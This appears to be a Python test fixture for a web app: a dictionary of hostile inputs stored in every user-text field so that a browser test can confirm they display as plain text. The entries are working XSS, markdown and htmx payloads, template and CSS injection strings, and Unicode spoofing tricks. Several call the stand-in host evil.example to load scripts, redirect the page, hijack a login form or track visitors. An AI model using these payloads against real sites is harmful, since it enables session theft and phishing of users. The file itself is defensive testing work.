"""The hostile corpus: text that tries to run, load, leak or break a page, one entry a trick.

Every user-text field (fields.py) stores each of these through its form; the browser test then
loads every page that shows them. A payload is plain text: what is stored is shown as text.
"""

# The characters that must never reach a page as live markup, whatever the payload.
EVIL = "alert(document.domain)"
JS = "javascript:alert(1)"

PAYLOADS: dict[str, str] = {
    # Script tags and event handlers
    "script": f"<script>{EVIL}</script>",
    "script-src": '<script src="https://evil.example/x.js"></script>',
    "script-split": f"<scr<script>ipt>{EVIL}</scr</script>ipt>",
    "img-onerror": f'"><img src=x onerror="{EVIL}">',
    "svg-onload": f"<svg onload={EVIL}>",
    "svg-script": f'<svg><script href="data:text/javascript,{EVIL}"/></svg>',
    "svg-animate": f"<svg><a><animate attributeName=href values={JS} /><text>x</text></a></svg>",
    "body-onload": f"<body onload={EVIL}>",
    "details-ontoggle": f"<details open ontoggle={EVIL}>",
    "input-autofocus": f"<input autofocus onfocus={EVIL}>",
    "attribute-break": f"' onmouseover='{EVIL}' x='",
    "iframe-srcdoc": f'<iframe srcdoc="<script>{EVIL}</script>"></iframe>',
    "object-data": '<object data="https://evil.example/x.swf"></object>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base-href": '<base href="https://evil.example/">',
    "form-action": '<form action="https://evil.example/"><button>Sign in again</button></form>',
    # javascript: and data: URLs, bare and in Markdown links and images
    "js-url": "javascript:alert(1)",
    "js-url-entities": "&#106;avascript:alert(1)",
    "md-js-link": "[click me](javascript:alert(1))",
    "md-js-link-spaced": "[click me](  JaVaScRiPt:alert(1)  )",
    "md-data-link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "md-data-image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "md-remote-image": "![tracker](https://evil.example/pixel.gif)",
    "md-image-onerror": '![x](https://evil.example/x.png"onerror="alert(1))',
    "md-reference-link": "[x][1]\n\n[1]: javascript:alert(1)",
    "md-autolink": "<javascript:alert(1)>",
    "html-a-js": '<a href="javascript:alert(1)">x</a>',
    "vbscript": "[x](vbscript:msgbox(1))",
    # htmx attributes
    "hx-get-load": '<div hx-get="/sign-out" hx-trigger="load">x</div>',
    "hx-post": '<button hx-post="/settings/tokens" hx-trigger="load">x</button>',
    "hx-on": '<div hx-on:click="alert(1)" hx-on::load="alert(1)">x</div>',
    "data-hx": '<a data-hx-get="https://evil.example/" data-hx-trigger="load">x</a>',
    # Templates
    "jinja-expression": "{{7*7}} {{ config }} ${7*7} #{7*7}",
    "jinja-statement": "{% for x in range(9) %}{{x}}{% endfor %} {% raw %}",
    # CSS injection
    "style-tag": "<style>body{display:none}*{background:url(https://evil.example/c)}</style>",
    "style-attribute": '<p style="position:fixed;top:0;left:0;width:9999px;height:9999px">x</p>',
    "css-import": "@import url(https://evil.example/x.css); </style><style>",
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    # Unicode tricks (names: bidi overrides, zero-width, lookalikes)
    "bidi-override": "\u202eevil.exe\u202c gnp.",
    "bidi-isolates": "\u2067admin\u2069 \u2066mentor\u2069",
    "zero-width": "ad\u200bmin\u200c\u200d\u2060\ufeff",
    "combining-pile": "Z" + "\u0336\u0337\u0338" * 40,
    "lookalike": "Grасе Mеntor",  # Cyrillic а, с, е
    # Layout: long unbroken text
    "long-word": "W" * 5_000,
    "long-url": "https://example.com/" + "a" * 3_000,
    "huge": "x" * 100_000,
    "huge-markdown": "# " + "<b>" * 20_000,
}
